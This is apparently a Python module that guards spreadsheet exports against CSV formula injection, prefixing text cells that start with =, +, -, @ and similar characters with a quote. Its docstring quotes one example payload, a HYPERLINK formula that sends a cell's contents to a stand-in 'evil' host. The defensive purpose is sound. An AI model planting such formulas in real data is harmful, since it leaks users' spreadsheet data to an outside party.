"""Cell values for spreadsheets, with formula injection neutralised (OWASP "CSV Injection").

A spreadsheet program treats a cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (or a
tab or carriage return, which some programs skip before evaluating) as a formula: a field value
such as ``=HYPERLINK("http://evil/?"&A1)`` would run on the analyst's machine. OWASP's advice
for CSV is to prefix such a text with a single quote and quote every field. The full-width forms
of the four characters are included: some programs fold them to the ASCII ones.

Only *text* is touched: numbers are written as numbers (``-3`` stays the number -3). A text that
already begins with a quote is prefixed too, so that :func:`restore` gives back exactly what was
exported.
"""

from __future__ import annotations

import datetime

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
QUOTE = "'"
LIST_SEPARATOR = "; "


def is_risky(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula."""
    return text.startswith(TRIGGERS)


_PREFIXED = (*TRIGGERS, QUOTE)


def neutralise(text: str) -> str:
    """``text`` made inert for a CSV cell: a leading quote before a formula trigger (or a quote)."""
    return QUOTE + text if text.startswith(_PREFIXED) else text


def restore(text: str) -> str:
    """The exported text back from a neutralised cell (the inverse of :func:`neutralise`)."""
    if text.startswith(QUOTE) and text[1:].startswith((*TRIGGERS, QUOTE)):
        return text[1:]
    return text


Plain = str | int | float | bool | datetime.date | list[str] | tuple[str, ...] | None


def as_text(value: object) -> str:
    """A value as the text a CSV cell holds, before neutralisation ("" for unknown)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, datetime.date):
        return value.isoformat()
    if isinstance(value, list | tuple):
        return LIST_SEPARATOR.join(str(v) for v in value)
    return str(value)


def csv_cell(value: object) -> str | int | float:
    """A CSV cell: numbers stay numbers (never prefixed), text is neutralised."""
    kind = type(value)
    if kind is str:  # the common cases first, by exact type (this runs once per cell)
        return neutralise(value)  # type: ignore[arg-type]
    if value is None:
        return ""
    if kind is int or kind is float:
        return value  # type: ignore[return-value]
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value
    return neutralise(as_text(value))
